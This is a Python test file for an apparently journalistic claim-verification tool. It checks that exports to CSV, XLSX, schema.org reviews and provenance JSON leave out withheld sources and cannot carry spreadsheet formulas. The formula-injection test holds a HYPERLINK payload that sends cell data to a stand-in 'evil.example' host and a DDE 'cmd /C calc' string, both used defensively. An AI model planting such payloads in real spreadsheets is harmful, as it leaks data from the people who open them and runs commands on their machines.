"""Exports: what a report would withhold is in none, no cell becomes a formula, and others' tools read what is written."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from firsthand.desk.exports import FORMS, export
from firsthand.desk.exports_prov import ENDS
from firsthand.desk.exports_table import COLUMNS, FORMULA, cell
from firsthand.desk.origins import enter_origins
from firsthand.record.assessment import About, Answer, Assessment, Confidence, Likelihood, Question, Withdrawal
from firsthand.record.bounds import Span
from firsthand.record.claim import Basis, Claim, Source, SourceKind, SpeaksTo, Stance
from firsthand.record.fault import BadDigest, FileTaken, GateRefused, WriteFailed
from firsthand.record.footage import Stretch
from firsthand.record.observation import Mark, MarkKind, Observation
from firsthand.record.sighting import Sighting
from tests.cases.dmytrivka.entered import dmytrivka
from tests.desk.test_publish_sample import PROTECTED, Sample, sample

EVIL = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture
def made() -> Sample:
    return sample()


def written(made: Sample, what: str, tmp_path: Path, **asked: Any) -> bytes:
    export(made.one, what, tmp_path / what, **asked)
    return (tmp_path / what).read_bytes()


def table(made: Sample, tmp_path: Path, **asked: Any) -> list[dict[str, str]]:
    text = written(made, "claims.csv", tmp_path, **asked).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def graph(made: Sample, tmp_path: Path, kind: str) -> list[dict[str, Any]]:
    found = json.loads(written(made, "claimreview.jsonld", tmp_path))
    assert found["@context"] == "https://schema.org"
    return [node for node in found["@graph"] if node["@type"] == kind]


def xlsx_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(str(one.value) for row in book["claims"].iter_rows() for one in row)


# --- what is withheld ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("what", FORMS)
def test_nothing_that_a_report_withholds_is_in_any_export(made: Sample, tmp_path: Path, what: str) -> None:
    made.say(
        sealed=Mark(mark=MarkKind.SEALED_SOURCE, label="from inside the office", entry=made.id["item_1"]),
        private=Sighting(
            file=made.file["square"], path="/home/olena/x.mp4", url="http://192.168.1.7/x", account="@lane"
        ),
    )
    speaks = (SpeaksTo(question=made.id["who"], answer=made.id["rowers"], stance=Stance.FOR),)
    on_item = {"source": made.id["agency"], "paraphrase": "p", "basis": Basis.FOOTAGE, "rests_on": (made.id["item_1"],)}
    made.say(on_item=Claim(**on_item, speaks_to=speaks), real=Question(about=About.AUTHENTIC, text="Is it real?"))
    made.say(is_real=Answer(question=made.id["real"], text="It is"))
    judged = Assessment(
        answer=made.id["is_real"],
        likelihood=Likelihood.LIKELY,
        confidence=Confidence.LOW,
        reasons="r",
        speaks_for=(made.id["item_1"],),
    )
    made.say(judged_real=judged)
    enter_origins(made.one)
    data = written(made, what, tmp_path)
    text = xlsx_text(data) if what.endswith("xlsx") else data.decode("utf-8-sig")
    for secret in (
        PROTECTED,
        "/home/olena",
        "phone of a colleague",
        "notes.txt",
        "at her window",
        "lantern work",
        "from inside",
        "192.168",
        "Town council’s notice",
    ):
        assert secret not in text, secret
    assert "a source known to the authors (1)" in text


@pytest.mark.parametrize("what", FORMS)
def test_a_protected_name_in_anybodys_words_stops_the_export(made: Sample, tmp_path: Path, what: str) -> None:
    question, answer = made.id["who"], made.id["council_did"]
    speaks = (SpeaksTo(question=question, answer=answer, stance=Stance.FOR),)
    made.say(slip=Claim(source=made.id["agency"], paraphrase=f"{PROTECTED.upper()} saw it.", speaks_to=speaks))
    with pytest.raises(GateRefused, match="protected name"):
        export(made.one, what, tmp_path / what)
    assert not (tmp_path / what).exists()
    export(made.one, what, tmp_path / what, withhold=[made.id["slip"]])


def test_what_an_analyst_withholds_by_name_is_left_out_and_counted(made: Sample, tmp_path: Path) -> None:
    rows = table(made, tmp_path, withhold=[f"{made.id['agency']}.name", made.id["claim_club"]])
    assert rows[0]["through"] == rows[3]["source"] == "a source that is withheld"
    assert (
        rows[1]["withheld"] == "withheld by an analyst"
        and rows[1]["says"] == ""
        and rows[1]["entry"] == made.id["claim_club"]
    )
    done = export(made.one, "claims.csv", tmp_path / "again.csv", withhold=[made.id["claim_club"]])
    assert done.left_out == {"claims that are withheld": 1}
    with pytest.raises(BadDigest):
        export(made.one, "claims.csv", tmp_path / "no.csv", withhold=["abc"])


def test_nothing_is_written_over_and_a_full_path_is_said(made: Sample, tmp_path: Path) -> None:
    (tmp_path / "f").write_text("mine")
    with pytest.raises(FileTaken):
        export(made.one, "claims.csv", tmp_path / "f")
    assert (tmp_path / "f").read_text() == "mine"
    with pytest.raises(WriteFailed):
        export(made.one, "claims.csv", tmp_path / "none" / "f")


# --- the table -------------------------------------------------------------------------------------------------------------------


def test_the_table_has_every_claim_with_its_chain_origins_and_times(made: Sample, tmp_path: Path) -> None:
    made.say(gone=Withdrawal(of=made.id["claim_law"], reason="misread"))
    council, club, neighbour, law = table(made, tmp_path)
    assert council["through"] == "Riverside Agency" and council["unknown_origins"] == "unknown: Town council"
    assert (
        council["verbatim"] == "Салют, як повідомляється, дав веслувальний клуб."
        and council["hedges"] == "as is reported"
    )
    assert council["said_as_stated"] == "Sunday" and council["said_earliest"] == "2024-05-05T00:00:00Z"
    assert club["origins"] == "own act: Old Bridge Rowing Club" and "| against |" in club["speaks_to"]
    assert neighbour["origins"] == "eyewitness: a source known to the authors (1)" and neighbour["reliability"] == "B"
    assert law["stands"] == "withdrawn: misread" and neighbour["stands"] == "stands"
    assert {row["entered_by"] for row in (council, club)} == {"Olena Marchuk"}


@pytest.mark.parametrize("start", [*FORMULA, "\t=", "\r="])
def test_no_cell_can_become_a_formula(made: Sample, tmp_path: Path, start: str) -> None:
    bad = f"{start}cmd|' /C calc'!A0"
    made.say(evil=Source(name=bad, is_a=SourceKind.ACCOUNT))
    made.say(
        said=Claim(source=made.id["evil"], paraphrase=f" {bad}", verbatim=EVIL, hedges=(bad,), said=Span(verbatim=bad))
    )
    row = table(made, tmp_path)[-1]
    assert all(not text.startswith(FORMULA) for text in row.values())
    assert all(not text.lstrip().startswith(FORMULA) for text in row.values())
    assert row["verbatim"] == f"'{EVIL}", "nothing of it is lost"
    export(made.one, "claims.xlsx", tmp_path / "claims.xlsx")
    book = openpyxl.load_workbook(tmp_path / "claims.xlsx")
    cells = [one for sheet_row in book["claims"].iter_rows() for one in sheet_row if one.value is not None]
    assert {one.data_type for one in cells} == {"s"}
    assert all(not str(one.value).startswith(FORMULA) for one in cells)


@given(st.text())
def test_a_cell_never_begins_a_formula_and_loses_no_letter(text: str) -> None:
    made = cell(text)
    assert not made.startswith(FORMULA) and not made.lstrip().startswith(FORMULA)
    letters = [c for c in text if c.isalnum()]
    assert [c for c in letters if c not in made] == []


def test_text_that_turns_or_hides_is_shown_by_its_code(made: Sample, tmp_path: Path) -> None:
    made.say(odd=Claim(source=made.id["agency"], paraphrase="a\u202eb\x07c\u200bd", verbatim="مرحبا\nשלום"))
    row = table(made, tmp_path)[-1]
    assert row["says"] == "a⟨U+202E⟩b⟨U+0007⟩c⟨U+200B⟩d" and row["verbatim"] == "مرحبا\nשלום"
    export(made.one, "claims.xlsx", tmp_path / "claims.xlsx")
    assert "a⟨U+202E⟩b⟨U+0007⟩c" in xlsx_text((tmp_path / "claims.xlsx").read_bytes())


def test_a_text_too_long_for_a_spreadsheets_cell_is_cut_there_and_whole_in_the_csv(
    made: Sample, tmp_path: Path
) -> None:
    made.say(long=Claim(source=made.id["agency"], paraphrase="p", verbatim="x" * 40_000))
    assert len(table(made, tmp_path)[-1]["verbatim"]) == 40_000
    export(made.one, "claims.xlsx", tmp_path / "claims.xlsx")
    book = openpyxl.load_workbook(tmp_path / "claims.xlsx")
    last = [one.value for one in list(book["claims"].iter_rows())[-1]]
    assert last[COLUMNS.index("verbatim")].endswith("[cut here; whole in claims.csv]")


# --- schema.org ------------------------------------------------------------------------------------------------------------------

CLAIM_REVIEW = set(
    "@type @id author datePublished reviewRating reviewBody creativeWorkStatus claimReviewed inLanguage itemReviewed isBasedOn".split()
)
MEDIA_REVIEW = set(
    "@type @id author datePublished reviewRating reviewBody creativeWorkStatus itemReviewed isBasedOn mediaAuthenticityCategory".split()
)


def test_a_claim_review_says_who_judged_what_and_never_folds_likelihood_into_confidence(
    made: Sample, tmp_path: Path
) -> None:
    reviews = graph(made, tmp_path, "ClaimReview")
    assert all(set(review) <= CLAIM_REVIEW for review in reviews)
    neighbour = [r for r in reviews if r["itemReviewed"]["@id"].endswith(made.id["claim_neighbour"])]
    assert [r["author"]["name"] for r in neighbour] == ["Olena Marchuk", "Bram de Wit"], "dissent stays beside"
    first, second = neighbour[0]["reviewRating"]
    assert (first["ratingValue"], first["bestRating"], first["alternateName"]) == (5, 7, "likely")
    assert (second["reviewAspect"], second["alternateName"]) == ("confidence in that judgement", "low")
    assert neighbour[0]["itemReviewed"]["author"]["name"] == "a source known to the authors (1)"
    assert neighbour[0]["claimReviewed"] == "رأيتهم من النافذة" and neighbour[0]["inLanguage"] == "ar"
    assert neighbour[0]["creativeWorkStatus"] == "not reviewed by a second analyst"


def test_what_nobody_judged_what_speaks_against_and_law_are_counted_and_not_rated(made: Sample, tmp_path: Path) -> None:
    against = (SpeaksTo(question=made.id["who"], answer=made.id["council_did"], stance=Stance.AGAINST),)
    made.say(no=Claim(source=made.id["council"], paraphrase="We did not.", basis=Basis.OWN_ACT, speaks_to=against))
    made.say(bare=Claim(source=made.id["council"], paraphrase="Nice weather."))
    done = export(made.one, "claimreview.jsonld", tmp_path / "r.jsonld")
    assert sorted(done.left_out.values()) == [1, 1, 1, 1] and len(done.left_out) == 4
    assert any("law" in why for why in done.left_out) and any("denial" in why for why in done.left_out)


def test_an_appearance_is_a_public_address_of_the_text_it_was_taken_from(made: Sample, tmp_path: Path) -> None:
    made.say(seen=Sighting(file=None, item="the article", url="https://agency.example/1", extra={"as": "article"}))
    made.say(passage=Observation(what="passage", says="p", rests_on=(made.id["seen"],)))
    made.say(hidden=Sighting(file=None, item="the note", url="http://10.0.0.7/1", extra={"as": "article"}))
    speaks = (SpeaksTo(question=made.id["who"], answer=made.id["council_did"], stance=Stance.FOR),)
    made.say(
        told=Claim(
            source=made.id["agency"],
            paraphrase="The council did.",
            speaks_to=speaks,
            rests_on=(made.id["passage"], made.id["hidden"]),
        )
    )
    review = next(r for r in graph(made, tmp_path, "ClaimReview") if r["itemReviewed"]["@id"].endswith(made.id["told"]))
    assert review["itemReviewed"]["appearance"] == [{"@type": "CreativeWork", "url": "https://agency.example/1"}]


def test_a_media_review_is_of_the_footage_and_has_a_category_only_in_an_analysts_words(
    made: Sample, tmp_path: Path
) -> None:
    made.say(real=Question(about=About.AUTHENTIC, text="Is it authentic?"))
    made.say(
        cut=Answer(question=made.id["real"], text="EditedOrCroppedContent"),
        plain=Answer(question=made.id["real"], text="It is what it seems"),
    )
    for name in ("cut", "plain"):
        judged = Assessment(
            answer=made.id[name],
            likelihood=Likelihood.LIKELY,
            confidence=Confidence.LOW,
            reasons="r",
            speaks_for=(made.id["tower"],),
        )
        made.say(**{f"judged_{name}": judged})
    reviews = graph(made, tmp_path, "MediaReview")
    assert all(set(review) <= MEDIA_REVIEW for review in reviews) and len(reviews) == 4
    assert {review.get("mediaAuthenticityCategory") for review in reviews} == {
        "https://schema.org/EditedOrCroppedContent",
        None,
    }
    bridge = next(review for review in reviews if review["itemReviewed"].get("sha256") == made.file["bridge"])
    assert "https://social.example/@riverside/112233" in bridge["itemReviewed"]["contentUrl"]


# --- provenance --------------------------------------------------------------------------------------------------------------------


def prov(made: Any, tmp_path: Path) -> dict[str, Any]:
    export(made.one, "prov.json", tmp_path / "prov.json")
    return dict(json.loads((tmp_path / "prov.json").read_bytes()))


@pytest.mark.parametrize("case", [sample, dmytrivka])
def test_every_relation_joins_two_things_that_are_there(case: Any, tmp_path: Path) -> None:
    found = prov(case(), tmp_path)
    prefixes = set(found.pop("prefix")) | {"prov"}
    things = {name for what in ("entity", "activity", "agent") for name in found.get(what, {})}
    assert all(name.partition(":")[0] in prefixes for name in things)
    assert set(found) <= {"entity", "activity", "agent", *ENDS}
    for what, (first, second) in ENDS.items():
        for relation in found.get(what, {}).values():
            assert {relation[first], relation[second]} <= things, (what, relation)


def test_who_said_what_who_entered_it_and_what_was_taken_back(made: Sample, tmp_path: Path) -> None:
    made.say(gone=Withdrawal(of=made.id["claim_law"], reason="misread"))
    found = prov(made, tmp_path)
    claim = f"entry:{made.id['claim_council']}"
    by = {r["prov:agent"] for r in found["wasAttributedTo"].values() if r["prov:entity"] == claim}
    assert by == {f"log:{made.one.writer.log}", f"source:{made.id['council']}", f"source:{made.id['agency']}"}
    assert found["agent"][f"source:{made.id['neighbour']}"]["prov:label"] == "a source known to the authors (1)"
    (ended,) = found["wasInvalidatedBy"].values()
    assert ended["prov:entity"] == f"entry:{made.id['claim_law']}"
    used = {
        r["prov:usedEntity"]
        for r in found["wasDerivedFrom"].values()
        if r["prov:generatedEntity"] == f"entry:{made.id['read_1']}"
    }
    made_by = [r for r in found["wasGeneratedBy"].values() if r["prov:entity"] == f"entry:{made.id['read_1']}"]
    assert len(made_by) == 1 and used == set()


def test_of_what_is_withheld_only_its_kind_and_place_are_there(made: Sample, tmp_path: Path) -> None:
    made.say(sealed=Mark(mark=MarkKind.SEALED_SOURCE, label="x", entry=made.id["item_1"]))
    found = prov(made, tmp_path)
    entity = found["entity"][f"entry:{made.id['item_1']}"]
    assert set(entity) == {"prov:type", "fh:day", "fh:withheld"} and entity["fh:withheld"] == "sealed source"


def test_which_bytes_a_sealed_source_gave_is_not_told(made: Sample, tmp_path: Path) -> None:
    made.say(sealed=Mark(mark=MarkKind.SEALED_SOURCE, label="x", stretch=Stretch(file=made.file["square"])))
    found = prov(made, tmp_path)
    hidden = f"entry:{made.id['seen_4']}"
    assert hidden in found["entity"]
    assert hidden not in {r["prov:generatedEntity"] for r in found["wasDerivedFrom"].values()}


# --- the model case ----------------------------------------------------------------------------------------------------------------


def test_a_day_that_came_from_a_publication_date_is_in_the_table_with_its_ground(tmp_path: Path) -> None:
    from firsthand.desk.suggest import cite
    from tests.cases.dmytrivka.entered import ARTICLE

    case = dmytrivka()
    dated = cite(case.one, ARTICLE, published="2022-04-07", zone="Europe/London")
    export(case.one, "claims.csv", tmp_path / "c.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "c.csv").read_bytes().decode("utf-8-sig"), newline="")))
    (row,) = (row for row in rows if row["entry"] == case["S2"])
    assert (row["said_as_stated"], row["said_earliest"], row["said_by_the_date_of"]) == (
        "on Wednesday",
        "2022-04-05T23:00:00Z",
        dated,
    )
    assert datetime.fromisoformat(row["said_latest"]) == datetime(2022, 4, 6, 23, tzinfo=UTC)
    assert row["origins"] == "recording: F1: the clip (spoken of; its bytes are not in the case)"
